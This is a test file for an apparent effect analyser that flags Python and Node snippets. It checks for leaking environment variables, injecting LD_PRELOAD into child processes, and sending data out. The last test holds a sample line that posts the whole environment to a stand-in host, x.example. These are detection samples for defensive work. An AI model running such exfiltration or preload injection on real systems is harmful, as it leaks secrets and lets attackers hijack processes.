import { expect, test } from 'vitest'
import { effectLines } from '../testing/effect-lines.ts'

const python = (code: string): readonly string[] => effectLines(`python3 - <<'E'\nimport os, subprocess\n${code}\nE`)
const node = (code: string): readonly string[] => effectLines(`node - <<'E'\nconst { execSync } = require('child_process')\n${code}\nE`)
const secret = 'infra:secret environment'
const preload = 'unknown: `LD_PRELOAD` changes what runs'

test.each([
  ['as it is', python, 'subprocess.run(["ls"], env=os.environ)', []],
  ['copied', python, 'e = os.environ.copy()\ne["A"] = "1"\nsubprocess.run(["ls"], env=e)', []],
  ['spread', python, 'subprocess.run(["ls"], env={**os.environ, "A": "1"})', []],
  ['joined', python, 'subprocess.run(["ls"], env=os.environ | {"A": "1"})', []],
  ['as a dictionary', python, 'subprocess.run(["ls"], env=dict(os.environ, A="1"))', []],
  ['spread', node, 'execSync("ls", { env: { ...process.env, A: "1" } })', []],
  [
    'copied with another that loads code',
    python,
    'e = os.environ.copy()\ne["LD_PRELOAD"] = "/x"\nsubprocess.run(["ls"], env=e)',
    [preload],
  ],
  ['as a dictionary that loads code', python, 'subprocess.run(["ls"], env=dict(os.environ, LD_PRELOAD="/x"))', [preload]],
  ['with others that load code', python, 'more = {"LD_PRELOAD": "/x"}\nsubprocess.run(["ls"], env={**os.environ, **more})', [preload]],
  ['joined to what loads code', python, 'subprocess.run(["ls"], env=os.environ | {"LD_PRELOAD": "/x"})', [preload]],
  ['spread with another that loads code', node, 'execSync("ls", { env: { ...process.env, LD_PRELOAD: "/x" } })', [preload]],
])('a program gets the environment %s', (_name, run, code, expected) => {
  expect(run(code).filter((line) => !line.startsWith('read:names'))).toEqual(expected)
})

test.each([
  ['a copy', python, 'print(os.environ.copy())'],
  ['a dictionary', python, 'print(dict(os.environ))'],
  ['in a text', python, 'print(f"{dict(os.environ)}")'],
  ['to a file', python, 'e = os.environ.copy()\nopen("x", "w").write(str(e))'],
  ['to a function that is none of its own', python, 'import json\njson.dumps({**os.environ})'],
  ['as an option of something else', python, 'import shutil\nshutil.which("x", env=os.environ)'],
  ['a copy', node, 'console.log({ ...process.env })'],
  ['inside others', node, 'console.log({ a: { b: process.env } })'],
  ['in a list', node, 'const o = { env: process.env }; console.log([o])'],
  ['as an option of something else', node, 'console.log("x", { env: process.env })'],
])('the environment is shown: %s', (_name, run, code) => {
  expect(run(code)).toContain(secret)
})

test.each([
  ['listed', python, 'print(list(os.environ), sorted(os.environ))', false],
  ['picked', python, 'print([name for name in sorted(os.environ) if name.startswith("A")])', false],
  ['one by one, with what they hold', python, 'for name in os.environ: print(name, os.environ[name])', true],
  ['in order, with what they hold', python, 'print([os.environ[name] for name in sorted(os.environ.keys())])', true],
  ['asked for one by one', python, 'print([os.getenv(name) for name in list(os.environ)])', true],
  ['of a list', python, 'print([os.environ.get(name) for name in ("A", "B")])', false],
  ['trimmed, with what they hold', python, 'print([os.environ[name.strip()] for name in os.environ])', true],
  ['listed', node, 'console.log(Object.keys(process.env))', false],
  ['of a list', node, 'for (const name of ["A", "B"]) console.log(process.env[name])', false],
  ['one by one, with what they hold', node, 'for (const name in process.env) console.log(process.env[name])', true],
  ['picked, with what they hold', node, 'Object.keys(process.env).filter((name) => /A/.test(name)).map((name) => process.env[name])', true],
])('names of variables %s', (_name, run, code, isShown) => {
  expect(run(code).includes(secret)).toBe(isShown)
})

test('a text of the environment is sent with it, however it is spelled', () => {
  const sends = effectLines(
    `python3 - <<'E'\nimport os, urllib.request\nurllib.request.urlopen('https://x.example', data=str(os.environ).encode())\nE`,
  )
  expect(sends).toEqual(['infra:secret environment', 'connect:post https://x.example', 'send:data https://x.example'])
})
